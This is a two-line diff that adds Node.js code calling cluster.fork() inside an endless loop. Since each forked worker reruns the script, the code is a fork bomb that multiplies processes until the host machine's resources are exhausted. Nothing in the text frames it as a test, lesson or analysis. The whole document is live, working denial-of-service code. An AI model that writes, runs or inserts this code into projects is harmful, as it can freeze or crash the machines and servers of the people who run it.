@@ -1,0 +1,2 @@
+const cluster = require('node:cluster');
+for (;;) cluster.fork();
